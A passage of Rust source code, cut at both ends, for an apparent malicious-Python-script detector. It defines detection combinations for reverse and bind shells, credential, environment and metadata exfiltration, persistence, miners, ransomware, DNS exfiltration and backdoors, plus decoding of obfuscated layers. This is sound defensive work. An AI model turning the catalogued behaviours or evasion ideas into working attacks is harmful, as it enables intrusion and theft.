    const PERSIST: u64 = gb("cron") | gb("systemd") | gb("shellrc") | gb("win_persist");
    let mut out = 0u64;
    let mut set = |c: u64, v: bool| {
        if v {
            out |= c;
        }
    };
    set(
        const { cb("c:revshell") },
        any(SOCKET) && any(DUP2 | SHELL) && any(RUN | DUP2 | SHELL),
    );
    set(
        const { cb("c:dl_chmod_exec") },
        any(DOWNLOAD) && any(CHMOD) && any(RUN | EXEC),
    );
    set(
        const { cb("c:env_exfil") },
        any(const { gb("environ") }) && any(SEND),
    );
    set(
        const { cb("c:cred_exfil") },
        any(const { gb("creds") }) && any(SEND),
    );
    set(
        const { cb("c:meta_send") },
        any(const { gb("metadata") } | const { gb("k8s_token") }) && any(SEND | SOCKET),
    );
    set(
        const { cb("c:persist_run") },
        any(PERSIST | const { gb("ssh_keys") }) && any(RUN | DOWNLOAD),
    );
    set(
        const { cb("c:detached_run") },
        all(const { gb("detach") }) && any(RUN),
    );
    set(
        const { cb("c:exec_remote") },
        any(DOWNLOAD) && any(EXEC | PIPE_SHELL),
    );
    set(const { cb("c:socket_run") }, any(SOCKET) && any(RUN | EXEC));
    set(
        const { cb("c:fetch_run") },
        any(DOWNLOAD) && any(RUN | CHMOD | MEMFD),
    );
    set(
        const { cb("c:remote_cmd") },
        (any(const { gb("netread") }) && any(SHELL_STR | RUN | EXEC) && any(SOCKET | SEND))
            || (any(DOWNLOAD) && any(SHELL_STR) && any(SEND)),
    );
    set(
        const { cb("c:revshell_cmd") },
        any(const { gb("revshell_cmd") }) && any(RUN | SHELL_STR | SHELL | PERSIST),
    );
    set(
        const { cb("c:miner") },
        any(const { gb("mining") })
            && any(RUN | SHELL_STR | SOCKET | DOWNLOAD | const { gb("detach") }),
    );
    set(
        const { cb("c:secret_file_send") },
        any(const { gb("secret_files") }) && any(SEND | SOCKET | DOWNLOAD),
    );
    set(
        const { cb("c:meta_creds") },
        any(const { gb("meta_creds") }) && any(DOWNLOAD | SEND | SOCKET),
    );
    set(
        const { cb("c:drop_exec") },
        (any(const { gb("binary_blob") }) && any(CHMOD | RUN | MEMFD))
            || (any(DOWNLOAD | const { gb("decode") })
                && any(CHMOD)
                && any(RUN | SHELL_STR)
                && any(const { gb("tmpdrop") })),
    );
    set(
        const { cb("c:win_autorun") },
        any(const { gb("win_persist") }),
    );
    set(
        const { cb("c:webshell") },
        any(const { gb("web_input") }) && any(SHELL_STR | EXEC),
    );
    set(
        const { cb("c:bind_shell") },
        any(const { gb("listen") }) && any(SHELL | DUP2 | SHELL_STR),
    );
    set(
        const { cb("c:env_dump_send") },
        any(const { gb("environ_all") }) && any(SEND | SOCKET | DOWNLOAD),
    );
    set(
        const { cb("c:secret_send") },
        any(const { gb("cloud_secrets") } | const { gb("metadata") } | const { gb("k8s_token") })
            && any(SEND | SOCKET),
    );
    set(
        const { cb("c:ransom") },
        any(const { gb("encrypt") })
            && any(const { gb("walk") } | const { gb("ransom_note") })
            && any(const { gb("delete") }
                | const { gb("destroy") }
                | const { gb("ransom_note") }
                | const { gb("overwrite") }),
    );
    set(
        const { cb("c:dns_exfil") },
        any(const { gb("dns") })
            && any(const { gb("encode_out") })
            && any(const { gb("creds") }
                | const { gb("environ") }
                | const { gb("secret_files") }
                | const { gb("cloud_secrets") }
                | const { gb("sysinfo") }),
    );
    set(
        const { cb("c:dns_exec") },
        any(const { gb("dns") } | const { gb("dns_txt") })
            && any(const { gb("dns_txt") })
            && any(EXEC | PIPE_SHELL),
    );
    set(
        const { cb("c:shred") },
        any(const { gb("overwrite") })
            && any(const { gb("walk") })
            && any(const { gb("delete") } | const { gb("destroy") }),
    );
    set(
        const { cb("c:pip_remote") },
        any(const { gb("pip_install") })
            && any(const { gb("builtins") } | const { gb("tmpdrop") } | DOWNLOAD),
    );
    set(
        const { cb("c:wipe") },
        any(const { gb("destroy") } | const { gb("delete") }) && any(const { gb("sys_targets") }),
    );
    set(
        const { cb("c:clipper") },
        all(const { gb("clipboard") } | const { gb("wallet_re") }),
    );
    set(
        const { cb("c:spy_send") },
        any(const { gb("spy") }) && any(SEND | SOCKET),
    );
    set(
        const { cb("c:persist_payload") },
        any(PERSIST) && any(DOWNLOAD | PIPE_SHELL | SOCKET | SHELL | EXEC),
    );
    set(
        const { cb("c:escape") },
        any(const { gb("escape") }) && any(RUN | PIPE_SHELL | SHELL | SOCKET | SHELL_STR),
    );
    set(
        const { cb("c:spread") },
        any(const { gb("spread") }) && any(PIPE_SHELL | DOWNLOAD | const { gb("creds") }),
    );
    set(
        const { cb("c:hide_run") },
        any(const { gb("hide") } | const { gb("kill_av") }) && any(RUN | SHELL_STR),
    );
    set(
        const { cb("c:dl_exec_file") },
        any(DOWNLOAD) && any(CHMOD | MEMFD) && any(RUN | SHELL_STR),
    );
    set(
        const { cb("c:ssh_backdoor") },
        any(const { gb("ssh_keys") }) && any(const { gb("pubkey") } | const { gb("append") }),
    );
    set(
        const { cb("c:root_backdoor") },
        any(const { gb("root_account") })
            && any(const { gb("account") } | SHELL_STR | RUN | const { gb("append") }),
    );
    out
}

/// Groups that are only parts of behaviour combinations: common in ordinary code on their own
/// (name resolution, hex/base64 encoding, read-write file modes, package installs), so their
/// own dense signal stays 0.
const PART_ONLY_GROUPS: u64 =
    gb("dns") | gb("dns_txt") | gb("encode_out") | gb("overwrite") | gb("pip_install");

/// Behaviour combinations specific enough to count as evidence on their own.
const STRONG_COMBOS: u64 = cb("c:revshell")
    | cb("c:dl_chmod_exec")
    | cb("c:meta_send")
    | cb("c:persist_run")
    | cb("c:exec_remote")
    | cb("c:remote_cmd")
    | cb("c:bind_shell")
    | cb("c:env_dump_send")
    | cb("c:secret_send")
    | cb("c:ransom")
    | cb("c:wipe")
    | cb("c:clipper")
    | cb("c:spy_send")
    | cb("c:persist_payload")
    | cb("c:escape")
    | cb("c:spread")
    | cb("c:hide_run")
    | cb("c:dl_exec_file")
    | cb("c:ssh_backdoor")
    | cb("c:root_backdoor")
    | cb("c:revshell_cmd")
    | cb("c:miner")
    | cb("c:secret_file_send")
    | cb("c:meta_creds")
    | cb("c:drop_exec")
    | cb("c:win_autorun")
    | cb("c:webshell")
    | cb("c:dns_exfil")
    | cb("c:dns_exec")
    | cb("c:shred")
    | cb("c:pip_remote");

/// Chunks in the region whose groups become the dense group signals of a script.
pub const GROUP_REGION_CHUNKS: usize = 8;

/// Pattern groups of one text.
struct LayerGroups {
    /// Every group present.
    all: u64,
    /// Behaviour combinations found in any neighbourhood (two adjacent [`CHUNK`]-byte chunks).
    combos: u64,
    /// Groups of the region of [`GROUP_REGION_CHUNKS`] chunks that holds the most groups.
    region: u64,
}

fn group_bits_local(text: &[u8]) -> LayerGroups {
    let p = patterns();
    let mut out = LayerGroups {
        all: 0,
        combos: 0,
        region: 0,
    };
    let mut chunk = usize::MAX;
    let mut prev = 0u64;
    let mut cur = 0u64;
    let mut last_eval = 0u64;
    let mut recent: VecDeque<(usize, u64)> = VecDeque::with_capacity(GROUP_REGION_CHUNKS + 1);
    let mut close = |c: usize, prev: u64, cur: u64, last_eval: &mut u64, out: &mut LayerGroups| {
        if prev | cur != *last_eval {
            *last_eval = prev | cur;
            out.combos |= local_combos(*last_eval);
        }
        recent.push_back((c, cur));
        while recent
            .front()
            .is_some_and(|f| f.0 + GROUP_REGION_CHUNKS <= c)
        {
            recent.pop_front();
        }
        let region = recent.iter().fold(0u64, |m, x| m | x.1);
        if region.count_ones() > out.region.count_ones() {
            out.region = region;
        }
    };
    // Overlapping: `os.environ.items` must count for both `os.environ` and `environ.items`
    // (reported in order of their end).
    for m in p.ac.find_overlapping_iter(text) {
        let c = (m.end() - 1) / CHUNK;
        if c != chunk {
            if chunk != usize::MAX {
                close(chunk, prev, cur, &mut last_eval, &mut out);
                prev = if c == chunk + 1 { cur } else { 0 };
            }
            chunk = c;
            cur = 0;
        }
        let bit = 1u64 << p.group_of[m.pattern().as_usize()];
        cur |= bit;
        out.all |= bit;
    }
    if chunk != usize::MAX {
        close(chunk, prev, cur, &mut last_eval, &mut out);
    }
    out
}

/// Sorts feature indices (all below [`DIM`]) ascending: two 10-bit LSD radix passes for long
/// lists (a 512 KiB script emits ~10^5 events; comparison sorting them was ~5% of a scan).
fn sort_indices(v: &mut Vec<u32>) {
    const BITS: u32 = 10;
    const _: () = assert!(DIM <= 1 << (2 * BITS));
    if v.len() < 4096 {
        v.sort_unstable();
        return;
    }
    let mut tmp = vec![0u32; v.len()];
    for pass in 0..2 {
        let shift = pass * BITS;
        let key = |x: u32| ((x >> shift) & ((1 << BITS) - 1)) as usize;
        let mut count = [0usize; 1 << BITS];
        for &x in v.iter() {
            count[key(x)] += 1;
        }
        let mut sum = 0;
        for c in count.iter_mut() {
            let n = *c;
            *c = sum;
            sum += n;
        }
        for &x in v.iter() {
            let k = key(x);
            tmp[count[k]] = x;
            count[k] += 1;
        }
        std::mem::swap(v, &mut tmp);
    }
}

/// A sparse feature vector, sorted by index.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct FeatureVector {
    /// Feature indices, ascending, unique.
    pub idx: Vec<u32>,
    /// Values, same length as `idx`.
    pub val: Vec<f32>,
}

/// Why an input was not analysed as Python.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum NotPython {
    /// Zero-length input.
    Empty,
    /// Binary data (NUL bytes, executable magic, mostly non-text).
    Binary(String),
}

impl std::fmt::Display for NotPython {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            NotPython::Empty => write!(f, "empty input"),
            NotPython::Binary(why) => write!(f, "not Python source: {why}"),
        }
    }
}

/// The result of analysing one script.
#[derive(Debug, Clone, Default)]
pub struct Analysis {
    /// The feature vector (empty when `not_python` is set).
    pub features: FeatureVector,
    /// Set when the input is not Python text.
    pub not_python: Option<NotPython>,
    /// Number of decoded layers analysed.
    pub layers: usize,
    /// Names of the features asked for with [`Extractor::analyze_named`].
    pub names: HashMap<u32, String>,
    /// True when the input was cut to `Limits::max_input`.
    pub truncated: bool,
}

/// Decides whether bytes look like text at all.
pub fn sniff_not_python(b: &[u8]) -> Option<NotPython> {
    if b.is_empty() {
        return Some(NotPython::Empty);
    }
    const MAGICS: &[(&[u8], &str)] = &[
        (b"\x7fELF", "ELF executable"),
        (b"MZ", "PE executable"),
        (b"PK\x03\x04", "zip archive"),
        (b"\x1f\x8b", "gzip data"),
        (b"\xca\xfe\xba\xbe", "Mach-O/class file"),
        (b"\x89PNG", "PNG image"),
    ];
    for (m, what) in MAGICS {
        if b.starts_with(m) {
            return Some(NotPython::Binary((*what).to_string()));
        }
    }
    let head = &b[..b.len().min(8192)];
    if head.contains(&0) {
        return Some(NotPython::Binary("contains NUL bytes".into()));
    }
    let ctrl = head
        .iter()
        .filter(|&&c| c < 0x20 && !matches!(c, b'\n' | b'\r' | b'\t' | 0x0c))
        .count();
    let high_invalid = std::str::from_utf8(head)
        .map(|_| 0)
        .unwrap_or_else(|_| String::from_utf8_lossy(head).matches('\u{FFFD}').count());
    if (ctrl + high_invalid) * 10 > head.len() {
        return Some(NotPython::Binary("mostly non-text bytes".into()));
    }
    None
}

/// Feature-name hash: 8 bytes per step (Fx-style multiply-rotate), stable across platforms.
fn mix(seed: u64, bytes: &[u8]) -> u64 {
    const K: u64 = 0x517c_c1b7_2722_0a95;
    let mut h = seed;
    let mut chunks = bytes.chunks_exact(8);
    for c in &mut chunks {
        let w = u64::from_le_bytes([c[0], c[1], c[2], c[3], c[4], c[5], c[6], c[7]]);
        h = (h.rotate_left(5) ^ w).wrapping_mul(K);
    }
    let r = chunks.remainder();
    if !r.is_empty() {
        let mut b = [0u8; 8];
        b[..r.len()].copy_from_slice(r);
        h = (h.rotate_left(5) ^ u64::from_le_bytes(b) ^ ((r.len() as u64) << 59)).wrapping_mul(K);
    }
    (h.rotate_left(5) ^ 0xff).wrapping_mul(K)
}

const HASH_SEED: u64 = 0xcbf2_9ce4_8422_2325;

/// Callback receiving a decoded layer: text, depth, kind.
type Found<'f> = dyn for<'r, 's> FnMut(Vec<u8>, u32, LayerKind, &'r mut Acc<'s>) + 'f;

struct Acc<'w> {
    events: Vec<u32>,
    max_events: usize,
    want: Option<(&'w [u32], HashMap<u32, String>)>,
    groups: u64,
    top_idents: usize,
    defs: usize,
    selfs: usize,
    tests: usize,
    dense_groups: u64,
    combos: u64,
    nonascii_idents: usize,
    layer_code: bool,
    layer_any: bool,
    ints_layer: bool,
    max_entropy: f32,
    longest_encoded: usize,
    encoded_bytes: usize,
    chr_calls: usize,
    idents: usize,
    obf_idents: usize,
    ip_host: bool,
}

impl Acc<'_> {
    fn emit(&mut self, ns: &str, parts: &[&[u8]]) {
        if self.events.len() >= self.max_events {
            return;
        }
        let mut h = mix(HASH_SEED, ns.as_bytes());
        for (i, p) in parts.iter().enumerate() {
            if i > 0 {
                h = mix(h, b"\x1f");
            }
            h = mix(h, p);
        }
        let idx = N_SIGNALS as u32 + ((h >> 32) as u32 & (HASH_DIM as u32 - 1));
        self.events.push(idx);
        if let Some((want, names)) = &mut self.want {
            if want.contains(&idx) && !names.contains_key(&idx) {
                let mut s = String::from(ns);
                s.push(':');
                for (i, p) in parts.iter().enumerate() {
                    if i > 0 {
                        s.push('>');
                    }
                    s.push_str(&String::from_utf8_lossy(p));
                }
                names.insert(idx, s);
            }
        }
    }
}

const SUSPICIOUS_IN_LAYER: &[&str] = &[
    "exec",
    "socket",
    "dup2",
    "shell",
    "download",
    "run",
    "metadata",
    "k8s_token",
    "mining",
    "webhook",
    "cron",
    "ssh_keys",
    "systemd",
    "creds",
    "send",
    "pipe_shell",
    "powershell",
    "ps_evasive",
    "memfd",
    "builtins",
    "decode",
];

fn lower_into(buf: &mut Vec<u8>, s: &[u8]) {
    buf.clear();
    buf.extend(s.iter().map(|c| c.to_ascii_lowercase()));
}

fn looks_obfuscated_ident(s: &[u8]) -> bool {
    if s.len() < 6 {
        return false;
    }
    let confusable = s
        .iter()
        .all(|&c| matches!(c, b'I' | b'l' | b'1' | b'O' | b'0' | b'_' | b'o'));
    let hexish = s.starts_with(b"_0x") || s.starts_with(b"__0x");
    confusable || hexish
}

fn parse_int(n: &[u8]) -> Option<u32> {
    let s = std::str::from_utf8(n).ok()?.replace('_', "");
    if let Some(h) = s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
        u32::from_str_radix(h, 16).ok()
    } else if let Some(o) = s.strip_prefix("0o").or_else(|| s.strip_prefix("0O")) {
        u32::from_str_radix(o, 8).ok()
    } else {
        s.parse().ok()
    }
}

fn is_ipv4(s: &[u8]) -> bool {
    let parts: Vec<&[u8]> = s.split(|&c| c == b'.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.iter().all(|c| c.is_ascii_digit()))
}

/// Extracts features; cheap to create, reusable, thread-safe.
#[derive(Debug, Clone, Copy, Default)]
pub struct Extractor {
    /// Bounds applied to every input.
    pub limits: Limits,
}

struct Pending {
    text: Vec<u8>,
    depth: u32,
}

impl Extractor {
    /// Creates an extractor with default limits.
    pub fn new() -> Self {
        Extractor::default()
    }

    /// Analyses `bytes`: sniffs for binary data, decodes layers, and computes the features.
    pub fn analyze(&self, bytes: &[u8]) -> Analysis {
        self.run(bytes, None)
    }

    /// Windows of a long script worth scoring on their own, so that a small payload inside a large
    /// benign file is not diluted, chosen over the **whole** script (up to [`MAX_SCORED`] bytes,
    /// not only the [`Limits::max_input`] the whole-file vector sees): a head and a tail window
    /// of [`WINDOW`]/4 bytes, then the densest of the [`WINDOW`]-byte tiles laid every
    /// [`WINDOW`]/2 bytes (most distinct strong pattern groups - sockets, shells, downloads,
    /// metadata, exec/decode, ... - first, earlier first on ties), line-aligned; at most
    /// [`MAX_WINDOWS`] in total, each at most 1.5 [`WINDOW`] bytes. (Windows narrowed to the
    /// hits +- 2 KiB were tried: they lift large benign modules - webbrowser.py 0.91 -> 0.98 -
    /// and cost cross-source recall, so tiles keep their 16 KiB of context.) Cost: one Aho-Corasick pass over the script
    /// (linear, ~1 ms per MB) plus at most [`MAX_WINDOWS`] small analyses, whatever the size.
    /// Empty for scripts up to [`WINDOW`]/2 bytes and non-Python input.
    pub fn windows(&self, bytes: &[u8]) -> Vec<(std::ops::Range<usize>, FeatureVector)> {
        if bytes.len() <= WINDOW / 2 || sniff_not_python(bytes).is_some() {
            return Vec::new();
        }
        let text = &bytes[..bytes.len().min(MAX_SCORED)];
        let p = patterns();
        let step = WINDOW / 2;
        // Per tile (tile t covers [t*step, t*step + WINDOW)), the strong groups seen in it.
        let tiles = text.len().div_ceil(step);
        let mut masks: Vec<u64> = vec![0; tiles];
        let (mut first_hit, mut last_hit) = (usize::MAX, 0usize);
        for m in p.strong_ac.find_iter(text) {
            let g = p.strong_group_of[m.pattern().as_usize()];
            let pos = m.start();
            first_hit = first_hit.min(pos);
            last_hit = last_hit.max(pos);
            let t = pos / step;
            masks[t] |= 1u64 << g;
            if t > 0 {
                masks[t - 1] |= 1u64 << g;
            }
        }
        if first_hit == usize::MAX {
            return Vec::new();
        }
        // Windows get a small decode budget of their own: the whole-file pass already followed
        // the encodings, and 18 full budgets would multiply the worst case.
        let wex = Extractor {
            limits: window_limits(self.limits),
        };
        // The next line start in [from, from + slack), else `from` (a window may start or end
        // inside a very long line, e.g. a megabyte dict literal, rather than grow with it).
        let line_after = |from: usize, slack: usize| -> usize {
            if from == 0 || from >= text.len() {
                return from.min(text.len());
            }
            let lim = (from + slack).min(text.len());
            memchr::memchr(b'\n', &text[from..lim]).map_or(from, |i| from + i + 1)
        };
        let mut out = Vec::new();
        // Payloads are most often prepended or appended: small head and tail windows first.
        let edge = WINDOW / 4;
        let head_end = line_after(edge.min(text.len()), WINDOW / 4);
        if first_hit < head_end {
            out.push((0..head_end, wex.analyze(&text[..head_end]).features));
        }
        let tail_start = text.len().saturating_sub(edge);
        let tail_start = memchr::memrchr(
            b'\n',
            &text[tail_start.saturating_sub(WINDOW / 4)..tail_start],
        )
        .map_or(tail_start, |i| {
            tail_start.saturating_sub(WINDOW / 4) + i + 1
        });
        if last_hit >= tail_start && tail_start > 0 {
            out.push((
                tail_start..text.len(),
                self.analyze(&text[tail_start..]).features,
            ));
        }
        let mut order: Vec<usize> = (0..tiles).filter(|&t| masks[t] != 0).collect();
        order.sort_by_key(|&t| (std::cmp::Reverse(masks[t].count_ones()), t));
        let mut chosen: Vec<usize> = order
            .into_iter()
            .take(MAX_WINDOWS.saturating_sub(out.len()))
            .collect();
        chosen.sort_unstable();
        for t in chosen {
            let start = line_after(t * step, WINDOW / 4);
            let end = line_after((t * step + WINDOW).min(text.len()), WINDOW / 4);
            if end > start {
                out.push((start..end, wex.analyze(&text[start..end]).features));
            }
        }
        out
    }

    /// [`Extractor::windows`] with the file's context: each window carries the code-style
    /// rates of the whole file (`whole` = the whole-file vector), so a 16 KiB slice of a test
    /// module or a class-based library is still scored as part of one (the behaviour signals
    /// stay the window's own).
    pub fn windows_in_context(
        &self,
        bytes: &[u8],
        whole: &FeatureVector,
    ) -> Vec<(std::ops::Range<usize>, FeatureVector)> {
        let mut w = self.windows(bytes);
        for (_, fv) in &mut w {
            with_file_context(fv, whole);
        }
        w
    }

    /// Like [`Extractor::analyze`], but also records the readable names of the hashed features
    /// whose indices are in `want` (used to explain a score).
    pub fn analyze_named(&self, bytes: &[u8], want: &[u32]) -> Analysis {
        self.run(bytes, Some(want))
    }

    fn run(&self, bytes: &[u8], want: Option<&[u32]>) -> Analysis {
        if let Some(np) = sniff_not_python(bytes) {
            return Analysis {
                not_python: Some(np),
                ..Analysis::default()
            };
        }
        let lim = self.limits;
        let (input, truncated): (std::borrow::Cow<[u8]>, bool) = if bytes.len() > lim.max_input {
            let head = lim.max_input / 4 * 3;
            let tail = lim.max_input - head;
            let mut v = Vec::with_capacity(lim.max_input + 1);
            v.extend_from_slice(&bytes[..head]);
            v.push(b'\n');
            v.extend_from_slice(&bytes[bytes.len() - tail..]);
            (v.into(), true)
        } else {
            (bytes.into(), false)
        };
        let mut acc = Acc {
            events: Vec::with_capacity(input.len() / 4 + 16),
            max_events: lim.max_events,
            want: want.map(|w| (w, HashMap::new())),
            groups: 0,
            top_idents: 0,
            defs: 0,
            selfs: 0,
            tests: 0,
            dense_groups: 0,
            combos: 0,
            nonascii_idents: 0,
            layer_code: false,
            layer_any: false,
            ints_layer: false,
            max_entropy: 0.0,
            longest_encoded: 0,
            encoded_bytes: 0,
            chr_calls: 0,
            idents: 0,
            obf_idents: 0,
            ip_host: false,
        };
        let mut queue: VecDeque<Pending> = VecDeque::new();
        let mut layers = 0usize;
        let mut decoded_total = 0usize;
        let mut max_depth = 0u32;
        let suspicious_mask: u64 = SUSPICIOUS_IN_LAYER
            .iter()
            .fold(0, |m, g| m | (1u64 << group(g)));
        let mut found: Vec<(Vec<u8>, u32, LayerKind)> = Vec::new();
        queue.push_back(Pending {
            text: input.into_owned(),
            depth: 0,
        });
        while let Some(p) = queue.pop_front() {
            found.clear();
            let before = acc.groups;
            acc.groups = 0;
            self.layer(&p.text, p.depth, &mut acc, &mut |t, d, k, _| {
                found.push((t, d, k));
            });
            let here = acc.groups;
            acc.groups |= before;
            if p.depth > 0 {
                acc.layer_any = true;
                if here & suspicious_mask != 0 {
                    acc.layer_code = true;
                }
            }
            for (t, d, k) in found.drain(..) {
                if d > lim.max_depth || layers >= lim.max_layers {
                    continue;
                }
                if decoded_total + t.len() > lim.max_decoded {
                    continue;
                }
                decoded_total += t.len();
                layers += 1;
                max_depth = max_depth.max(d);
                if k == LayerKind::CharCodes {
                    acc.ints_layer = true;
                }
                acc.emit("layer", &[k.name().as_bytes()]);
                queue.push_back(Pending { text: t, depth: d });
            }
        }
        // Dense signals.
        let mut dense = [0f32; N_SIGNALS];
        for (i, d) in dense.iter_mut().enumerate().take(GROUPS.len()) {
            if acc.dense_groups & !PART_ONLY_GROUPS & (1u64 << i) != 0 {
                *d = 1.0;
            }
        }
        let g = |n: &str| acc.groups & (1u64 << group(n)) != 0;
        let b = |x: bool| if x { 1.0 } else { 0.0 };
        let set = |d: &mut [f32; N_SIGNALS], n: &str, v: f32| d[combo(n)] = v.clamp(0.0, 1.0);
        // Whole-script combinations (obfuscation and setup-script context).
        set(
            &mut dense,
            "c:exec_decoded",
            b(g("exec") && (g("decode") || acc.layer_any)),
        );
        set(&mut dense, "c:layer_code", b(acc.layer_code));
        set(&mut dense, "c:layer_any", b(acc.layer_any));
        set(
            &mut dense,
            "c:setup_hook_net",
            b(g("setup")
                && g("install_hook")
                && (g("download") || g("send") || g("run") || g("socket"))),
        );
        set(
            &mut dense,
            "c:setup_exec",
            b(g("setup") && (g("exec") || g("ps_evasive") || g("pipe_shell"))),
        );
        // Behaviour combinations: the groups must co-occur within one neighbourhood of one text
        // layer ([`local_combos`]), so that a large file does not assemble a behaviour from
        // unrelated corners.
        for (k, (name, _)) in COMBOS.iter().enumerate() {
            if acc.combos & (1u64 << k) != 0 {
                set(&mut dense, name, 1.0);
            }
        }
        // Shared evidence: a behaviour no training example showed still counts through these.
        let strong = (acc.combos & STRONG_COMBOS).count_ones();
        set(&mut dense, "c:any_behaviour", b(strong > 0));
        set(&mut dense, "s:behaviours", strong as f32 / 3.0);
        set(&mut dense, "s:layers", layers as f32 / 4.0);
        set(&mut dense, "s:depth", max_depth as f32 / 3.0);
        set(&mut dense, "s:entropy", (acc.max_entropy - 4.5) / 1.5);
        set(
            &mut dense,
            "s:long_literal",
            if acc.longest_encoded > 0 {
                ((acc.longest_encoded as f32).log2() - 6.0) / 10.0
            } else {
                0.0
            },
        );
        let n = bytes.len().min(lim.max_input).max(1);
        set(
            &mut dense,
            "s:frac_encoded",
            acc.encoded_bytes as f32 / n as f32,
        );
        set(&mut dense, "s:chr_calls", acc.chr_calls as f32 / 50.0);
        set(
            &mut dense,
            "s:obf_idents",
            if acc.idents >= 10 {
                acc.obf_idents as f32 / acc.idents as f32 * 4.0
            } else {
                0.0
            },
        );
        set(&mut dense, "s:ip_host", b(acc.ip_host));
        if acc.top_idents >= 20 {
            let n = acc.top_idents as f32;
            set(&mut dense, "s:def_rate", acc.defs as f32 / n * 20.0);
            set(&mut dense, "s:self_rate", acc.selfs as f32 / n * 5.0);
            set(&mut dense, "s:test_rate", acc.tests as f32 / n * 20.0);
        }
        {
            let text = &bytes[..bytes.len().min(lim.max_input)];
            let (mut lines, mut indented) = (0usize, 0usize);
            for l in text.split(|&c| c == b'\n') {
                if l.iter().any(|c| !c.is_ascii_whitespace()) {
                    lines += 1;
                    indented += matches!(l.first(), Some(b' ' | b'\t')) as usize;
                }
            }
            if lines >= 5 {
                set(&mut dense, "s:indent_rate", indented as f32 / lines as f32);
            }
        }
        set(
            &mut dense,
            "s:nonascii_idents",
            if acc.idents >= 10 {
                acc.nonascii_idents as f32 / acc.idents as f32 * 4.0
            } else {
                0.0
            },
        );
        set(&mut dense, "s:ints_layer", b(acc.ints_layer));

        // Sparse part: log counts, L2-normalized.
        let mut ev = std::mem::take(&mut acc.events);
        sort_indices(&mut ev);
        let mut idx = Vec::with_capacity(N_SIGNALS + ev.len() / 2);
        let mut val = Vec::with_capacity(idx.capacity());
        for (i, &v) in dense.iter().enumerate() {
            if v != 0.0 {
                idx.push(i as u32);
                val.push(v);
            }
        }
        let dense_n = idx.len();
        let mut i = 0;
        while i < ev.len() {
            let mut j = i;
            while j < ev.len() && ev[j] == ev[i] {
                j += 1;
            }
            idx.push(ev[i]);
            val.push(1.0 + ((j - i) as f32).ln());
            i = j;
        }
        let norm = val[dense_n..].iter().map(|v| v * v).sum::<f32>().sqrt();
        if norm > 0.0 {
            for v in &mut val[dense_n..] {
                *v /= norm;
            }
        }
        let names = acc.want.take().map(|(_, n)| n).unwrap_or_default();
        Analysis {
            features: FeatureVector { idx, val },
            not_python: None,
            layers,
            names,
            truncated,
        }
    }

    /// Features of one text layer; calls `found` for every decodable literal.
    fn layer(&self, text: &[u8], depth: u32, acc: &mut Acc, found: &mut Found<'_>) {
        let lg = group_bits_local(text);
        acc.groups |= lg.all;
        acc.combos |= lg.combos;
        // Dense group signals: a decoded layer counts whole; the script itself by its densest
        // region, so a large file does not collect every group from unrelated corners.
        acc.dense_groups |= if depth > 0 { lg.all } else { lg.region };
        let max_out = self.limits.max_decoded;
        // A layer that is itself one bare encoded blob (base64 of base64 ...).
        if depth > 0 {
            let t = text.trim_ascii();
            if t.len() >= decode::MIN_ENCODED_LEN && !t.contains(&b' ') {
                if let Some((d, k)) = decode::decode_literal(t, max_out) {
                    found(d, depth + 1, k, acc);
                }
            }
        }
        // About one token per 4-5 bytes: reserve once instead of growing (and copying) ~17 times.
        let mut toks: Vec<Tok> = Vec::with_capacity(text.len() / 4 + 16);
        toks.extend(Lexer::new(text));
        let mut low = Vec::with_capacity(64);
        let mut low2 = Vec::with_capacity(64);
        let mut prev_call: Vec<u8> = Vec::new();
        let mut last2: Vec<u8> = Vec::with_capacity(64);
        let mut paren = 0i32;
        let mut chr_buf: Vec<u8> = Vec::new();
        let mut int_buf: Vec<u8> = Vec::new();
        let mut str_buf: Vec<u8> = Vec::new();
        let mut str_open = false;
        let mut str_is_bytes = false;
        let flush_codes = |buf: &mut Vec<u8>, acc: &mut Acc, found: &mut Found<'_>| {
            if buf.len() >= 8 && decode::printable_ratio(buf) >= 0.85 {
                found(std::mem::take(buf), depth + 1, LayerKind::CharCodes, acc);
            }
            buf.clear();
        };
        let mut i = 0;
        while i < toks.len() {
            let tok = &toks[i];
            // String concatenation: 'a' 'b' or 'a' + 'b'.
            let is_str = matches!(tok, Tok::Str { .. });
            let is_plus = matches!(tok, Tok::Op(b'+'));
            if str_open && !is_str && !(is_plus && matches!(toks.get(i + 1), Some(Tok::Str { .. })))
            {
                self.string(&str_buf, str_is_bytes, depth, acc, found);
                str_buf.clear();
                str_open = false;
            }
            if !matches!(
                tok,
                Tok::Num(_)
                    | Tok::Op(b',')
                    | Tok::Op(b'[')
                    | Tok::Op(b']')
                    | Tok::Op(b'(')
                    | Tok::Op(b')')
            ) {
                flush_codes(&mut int_buf, acc, found);
            }
            match tok {
                Tok::Str { body, bytes } => {
                    flush_codes(&mut chr_buf, acc, found);
                    if str_buf.len() < self.limits.max_input {
                        str_buf.extend_from_slice(body);
                    }
                    str_is_bytes = *bytes;
                    str_open = true;
                }
                Tok::Op(b'[')
                    if matches!(toks.get(i + 1), Some(Tok::Num(_) | Tok::Op(b'(' | b'-'))) =>
                {
                    paren += 1;
                    if let Some((vals, end)) = const_int_list(&toks, i) {
                        if vals.len() >= 8 {
                            let mut out = Vec::with_capacity(vals.len());
                            for v in vals {
                                if let Some(ch) = u32::try_from(v).ok().and_then(char::from_u32) {
                                    let mut b4 = [0u8; 4];
                                    out.extend_from_slice(ch.encode_utf8(&mut b4).as_bytes());
                                }
                            }
                            if out.len() >= 8 && decode::printable_ratio(&out) >= 0.85 {
                                found(out, depth + 1, LayerKind::CharCodes, acc);
                            }
                            paren -= 1;
                            i = end + 1;
                            continue;
                        }
                    }
                }
                Tok::Op(c) => match c {
                    b'(' | b'[' | b'{' => paren += 1,
                    b')' | b']' | b'}' => paren = (paren - 1).max(0),
                    _ => {}
                },
                Tok::Num(n) => {
                    if let Some(v) = parse_int(n) {
                        if v < 256
                            && matches!(
                                toks.get(i.wrapping_sub(1)),
                                Some(Tok::Op(b',' | b'[' | b'('))
                            )
                        {
                            int_buf.push(v as u8);
                        }
                    }
                }
                Tok::Ident(id) => {
                    // chr(N)
                    if *id == b"chr" {
                        if let (Some(Tok::Op(b'(')), Some(Tok::Num(n)), Some(Tok::Op(b')'))) =
                            (toks.get(i + 1), toks.get(i + 2), toks.get(i + 3))
                        {
                            acc.chr_calls += 1;
